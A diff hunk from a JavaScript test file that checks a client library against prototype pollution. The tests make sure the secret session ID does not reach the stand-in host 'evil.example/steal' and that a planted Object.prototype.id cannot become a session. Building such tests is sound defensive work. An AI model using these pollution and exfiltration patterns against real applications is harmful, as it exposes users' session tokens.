@@ -301,6 +301,11 @@ test('a polluted Object.prototype does not widen the origins that get the sessio
   await wait(client.login());
   await wait(client.request({ url: 'https://evil.example/steal' }));
   assert.ok(!JSON.stringify(sent.at(-1).header ?? {}).includes('the-secret-id'));
+  // Nor does what lies there become a session.
+  host.evaluate(`Object.prototype.id = 'planted';`);
+  t.after(() => host.evaluate('delete Object.prototype.id'));
+  assert.throws(() => client.setSession(host.evaluate('({})')), (/** @type {any} */ error) => error.code === 'CONFIG_INVALID');
+  assert.equal(client.session().id, 'the-secret-id');
 });
 
 test('names that JavaScript treats specially carry the session, or are refused', async (t) => {
